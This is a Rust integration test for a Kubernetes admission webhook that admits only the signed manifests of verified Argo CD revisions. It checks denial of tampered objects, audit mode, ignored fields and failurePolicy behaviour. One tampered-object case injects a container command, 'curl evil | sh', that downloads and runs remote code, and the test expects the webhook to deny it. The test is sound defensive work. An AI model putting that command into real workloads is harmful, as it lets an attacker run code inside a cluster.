//! The admission webhook with the real kube-apiserver calling it: the signed manifests of a verified
//! revision apply; a tampered object is denied with a readable message; an object of an Application
//! whose revision failed verification is denied; audit mode admits and records; objects outside the
//! protected namespace, or not tracked by Argo CD, are untouched; a webhook that is down denies with
//! failurePolicy Fail and admits with Ignore.

mod common;

use std::time::Duration;

use common::git::Sign;
use common::images::*;
use common::project::*;
use common::*;
use k8s_openapi::api::admissionregistration::v1::ValidatingWebhookConfiguration;
use k8s_openapi::api::core::v1::Namespace;
use kube::api::{ApiResource, DynamicObject, GroupVersionKind, Patch, PatchParams, PostParams};
use kube::{Api, Client};
use serde_json::{Value, json};

fn api_for(client: &Client, object: &Value) -> Api<DynamicObject> {
    let (group, version) = match object["apiVersion"].as_str().unwrap().split_once('/') {
        Some((g, v)) => (g.to_string(), v.to_string()),
        None => (String::new(), object["apiVersion"].as_str().unwrap().to_string()),
    };
    let kind = object["kind"].as_str().unwrap();
    let plural = format!("{}s", kind.to_lowercase());
    let ns = object["metadata"]["namespace"].as_str().unwrap();
    Api::namespaced_with(
        client.clone(),
        ns,
        &ApiResource::from_gvk_with_plural(&GroupVersionKind::gvk(&group, &version, kind), &plural),
    )
}

/// Applies as Argo CD does (server-side apply, its field manager); the apiserver's error, if any.
async fn apply(client: &Client, object: &Value) -> Result<(), String> {
    let name = object["metadata"]["name"].as_str().unwrap();
    let pp = PatchParams::apply("argocd-controller").force();
    api_for(client, object).patch(name, &pp, &Patch::Apply(object)).await.map(|_| ()).map_err(|e| e.to_string())
}

/// The signed manifests of a manifest image, as the registry holds them.
async fn signed_manifests(image: &str) -> Vec<Value> {
    let (repository, digest) = image.split_once('@').unwrap();
    let registry = weft::oci::Registry::new(repository, None).unwrap();
    let manifest = registry.manifest(digest).await.unwrap().unwrap();
    let layers = registry.layers(&manifest).await.unwrap();
    let text = std::str::from_utf8(&layers[0].bytes).unwrap();
    let parsed = weft::manifest::parse("signed", text, weft::manifest::Limits::default()).unwrap();
    parsed.into_iter().map(|m| Value::Object(m.object)).collect()
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

#[tokio::test]
async fn only_the_signed_manifests_of_a_verified_revision_are_admitted() {
    let lab = Lab::new();
    let web = lab.image("lab/admitted-web", "1.0");
    lab.sign("k", &web);
    let project = with_namespace(|ns| {
        let deployment = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "cart", "namespace": ns},
            "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "cart"}}, "template": {"metadata": {"labels": {"app": "cart"}},
                "spec": {"containers": [{"name": "web", "image": web}]}}}});
        let config = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "cart-config", "namespace": ns},
            "data": {"CURRENCY": "EUR"}});
        vec![("deployment.yaml".into(), deployment.to_string()), ("configmap.yaml".into(), config.to_string())]
    });
    let signed_head = project.repo.head();
    project.repo.write("unsigned.yaml", b"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: late}\n");
    let unsigned_head = project.repo.commit_all("not signed", Sign::No);

    let client = client().await;
    let ns = namespace(&client, "admission").await;
    let dest = project.namespace.clone();
    let namespace: Namespace = serde_json::from_value(json!({"metadata": {"name": dest}})).unwrap();
    Api::<Namespace>::all(client.clone()).create(&PostParams::default(), &namespace).await.unwrap();
    project.apply_resources(&client, &ns).await;
    apply_documents(&client, &ns, &std::fs::read_to_string(lab.path("resources.yaml")).unwrap()).await;
    let repository = format!("{}/manifests/admission-{}", peer("WEFT_TEST_REGISTRY"), rand_suffix());
    let iv = lab.image_verification(key("keys"), json!({}));
    let path = project.profile(&repository, true, json!({"imageVerification": iv}));
    let mut profile: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    profile["metadata"] = json!({"name": "production"});
    create(&profiles(&client, &ns), profile).await;
    let app = |name: &str, revision: &str| {
        let mut app: Value =
            serde_json::from_str(&std::fs::read_to_string(project.application(json!({}))).unwrap()).unwrap();
        app["metadata"] = json!({"name": name});
        app["status"]["sync"]["revision"] = json!(revision);
        app
    };
    create(&applications(&client, &ns), app("shop-cart", &signed_head)).await;
    create(&applications(&client, &ns), app("rogue", &unsigned_head)).await;
    let cache = project.path("controller-cache");
    let _controller = WeftProcess::start(&["controller", "--namespace", &ns, "--cache-dir", cache.to_str().unwrap()]);
    let verified =
        provenance_where(&client, &ns, "shop-cart", "a verified revision", |v| v["status"]["verdict"] == "Verified")
            .await;
    provenance_where(&client, &ns, "rogue", "a failed revision", |v| v["status"]["verdict"] == "Failed").await;
    let manifests = signed_manifests(verified["status"]["manifestImage"].as_str().unwrap()).await;
    assert_eq!(manifests.len(), 2);

    // The webhook, and the apiserver calling it for the destination namespace only.
    let configuration = format!("weft-{ns}");
    let port = free_port();
    let webhooks: Api<ValidatingWebhookConfiguration> = Api::all(client.clone());
    let vwc = |policy: &str| {
        json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
            "metadata": {"name": configuration},
            "webhooks": [{"name": "validate.weft.dev", "admissionReviewVersions": ["v1"], "sideEffects": "None",
                "failurePolicy": policy, "timeoutSeconds": 5,
                "clientConfig": {"url": format!("https://127.0.0.1:{port}/validate")},
                "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": dest}},
                "rules": [{"apiGroups": ["", "apps"], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                    "resources": ["configmaps", "deployments"]}]}]})
    };
    webhooks.create(&PostParams::default(), &serde_json::from_value(vwc("Fail")).unwrap()).await.unwrap();
    let mut webhook = WeftProcess::start(&[
        "webhook",
        "--listen",
        &format!("127.0.0.1:{port}"),
        "--cert-host",
        "127.0.0.1",
        "--cert-namespace",
        &ns,
        "--cert-secret",
        "weft-webhook-tls",
        "--webhook-configuration",
        &configuration,
    ]);
    common::chart::webhook_serving(&client, &configuration, &format!("127.0.0.1:{port}")).await;

    // The signed manifests apply (retried while the webhook starts, as Argo CD retries a sync).
    for object in &manifests {
        let client = &client;
        eventually(
            "the signed manifests to apply",
            Duration::from_secs(30),
            || async move { apply(client, object).await },
        )
        .await;
    }

    // A tampered object is denied, saying which Application, which revision and which field.
    let mut tampered = manifests.iter().find(|m| m["kind"] == "Deployment").unwrap().clone();
    tampered["spec"]["replicas"] = json!(5);
    let err = apply(&client, &tampered).await.expect_err("a tampered Deployment is denied");
    assert!(err.contains(&format!("Application {ns}/shop-cart")), "{err}");
    assert!(err.contains(&signed_head[..12]), "{err}");
    assert!(err.contains("spec.replicas: signed 2, got 5"), "{err}");

    // An object of the Application whose revision failed verification is denied.
    let mut rogue = manifests.iter().find(|m| m["kind"] == "ConfigMap").unwrap().clone();
    rogue["metadata"]["name"] = json!("rogue-config");
    rogue["metadata"]["annotations"]["argocd.argoproj.io/tracking-id"] =
        json!(format!("{ns}_rogue:/ConfigMap:{dest}/rogue-config"));
    let err = apply(&client, &rogue).await.expect_err("an object of a failed revision is denied");
    assert!(err.contains("not vouched for (verdict Failed"), "{err}");

    // Not tracked by Argo CD, or in a namespace the webhook does not cover: untouched.
    let untracked =
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "hand-made", "namespace": dest}});
    apply(&client, &untracked).await.expect("an object no Application tracks is admitted");
    let mut elsewhere = tampered.clone();
    elsewhere["metadata"]["namespace"] = json!(ns);
    apply(&client, &elsewhere).await.expect("the webhook does not cover this namespace");

    // Audit mode: admitted, with an Event on the Application.
    let pp = PatchParams::default();
    let audit = json!({"spec": {"enforcement": {"mode": "audit"}}});
    profiles(&client, &ns).patch("production", &pp, &Patch::Merge(&audit)).await.unwrap();
    let (c, t) = (&client, &tampered);
    eventually("audit mode", Duration::from_secs(30), || async move { apply(c, t).await }).await;
    let events: Api<k8s_openapi::api::events::v1::Event> = Api::namespaced(client.clone(), &ns);
    eventually("an audit Event", Duration::from_secs(30), || {
        let events = events.clone();
        async move {
            let list = events.list(&Default::default()).await.map_err(|e| e.to_string())?;
            let audited = list.items.iter().find(|e| e.reason.as_deref() == Some("AdmissionAudited"));
            let note = audited.and_then(|e| e.note.clone()).ok_or("no AdmissionAudited Event yet")?;
            if note.contains("spec.replicas") { Ok(()) } else { Err(note) }
        }
    })
    .await;
    // Enforcing again, with the profile ignoring replicas (an autoscaler's field): that change is admitted,
    // any other still denied.
    let enforce = json!({"spec": {"enforcement": {"mode": "enforce",
        "ignoreFields": [{"fields": ["spec.replicas"], "objects": [{"kind": "Deployment"}]}]}}});
    profiles(&client, &ns).patch("production", &pp, &Patch::Merge(&enforce)).await.unwrap();
    tampered["spec"]["replicas"] = json!(7);
    let (c, t) = (&client, &tampered);
    eventually("replicas ignored", Duration::from_secs(30), || async move { apply(c, t).await }).await;
    // A field the signed manifest does not have, and that is no default, is denied too.
    tampered["spec"]["template"]["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]);
    let err = apply(&client, &tampered).await.expect_err("other fields are still enforced");
    assert!(err.contains("containers.0.command: signed (unset), got [\"sh\""), "{err}");

    // Its metrics count the decisions.
    let http = reqwest::Client::builder().danger_accept_invalid_certs(true).build().unwrap();
    let metrics = http.get(format!("https://127.0.0.1:{port}/metrics")).send().await.unwrap().text().await.unwrap();
    for decision in ["allowed", "denied", "audited"] {
        let series = format!("weft_admission_reviews_total{{decision=\"{decision}\"}}");
        assert!(metrics.contains(&series), "{series} in {metrics}");
    }

    // The webhook down: failurePolicy Fail denies everything it covers; Ignore admits.
    assert_eq!(webhook.terminate(Duration::from_secs(10)).await, Some(0), "stops cleanly on SIGTERM");
    let another =
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "while-down", "namespace": dest}});
    let err = apply(&client, &another).await.expect_err("Fail: nothing is admitted while the webhook is down");
    assert!(err.contains("failed calling webhook"), "{err}");
    let ignore = json!({"webhooks": [{"name": "validate.weft.dev", "failurePolicy": "Ignore"}]});
    let current = webhooks.get(&configuration).await.unwrap();
    let mut hooks = serde_json::to_value(current.webhooks.unwrap()).unwrap();
    hooks[0]["failurePolicy"] = ignore["webhooks"][0]["failurePolicy"].clone();
    webhooks.patch(&configuration, &pp, &Patch::Merge(&json!({"webhooks": hooks}))).await.unwrap();
    apply(&client, &another).await.expect("Ignore: admitted while the webhook is down");
    webhooks.delete(&configuration, &Default::default()).await.unwrap();
}
